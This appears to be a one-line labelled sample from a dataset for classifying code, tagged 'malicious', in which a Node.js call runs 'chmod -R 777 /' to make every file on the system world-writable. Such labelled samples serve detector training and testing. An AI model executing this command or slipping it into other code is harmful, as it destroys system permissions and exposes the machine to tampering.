// label: malicious
require("child_process").execSync("chmod -R 777 /");
